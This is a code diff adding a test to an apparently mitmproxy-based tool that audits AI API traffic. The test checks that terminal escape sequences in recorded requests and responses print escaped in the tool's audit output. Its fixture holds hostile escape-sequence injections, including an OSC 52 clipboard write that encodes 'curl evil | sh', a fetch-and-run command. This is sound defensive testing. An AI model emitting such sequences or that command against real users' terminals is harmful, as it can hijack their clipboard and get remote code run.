@@ -125,3 +125,22 @@ def test_mitmweb_comment_is_masked(rt):
     responses.annotate(f, f"held: {token}", ":x:")
     assert token not in f.comment and "[MASKED:github-pat-classic:" in f.comment
     assert outside.safe_text(f.comment, rt.inspector) == f.comment
+
+
+async def test_terminal_controls_in_recorded_traffic_never_reach_the_operators_terminal(addon, tmp_path, capsys):
+    """A model's answer (or an agent's request) with escape sequences: `audit show` and `audit list` print them
+    escaped, or they would erase lines, retitle the window or write the operator's clipboard (OSC 52)."""
+    f = tflow.tflow(resp=True)
+    f.request.host = "api.openai.com"
+    f.request.path = "/v1/chat\x1b[2K"
+    f.request.headers["x-note"] = "a\x1b]0;owned\x07"
+    f.request.content = b'{"messages": [{"role": "user", "content": "hi\\u001b[1A"}]}'
+    f.response.content = "answer\x1b[1A\x1b[2K\r ok\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\\x9b2J\u202e".encode()
+    f.metadata.update({metakeys.HOST_CLASS: "guarded", metakeys.DECISION: "allow", metakeys.IDENTITY: "agent\x1b[8m"})
+    await addon.response(f)
+    rec_dir = str(tmp_path / "rec")
+    assert cli.main(["audit", "--dir", rec_dir, "show", f.id]) == 0
+    assert cli.main(["audit", "--dir", rec_dir, "list"]) == 0
+    out = capsys.readouterr().out
+    assert not any(c in out for c in "\x1b\x9b\x07\r\u202e"), repr(out)
+    assert "\\x1b[1A\\x1b[2K" in out
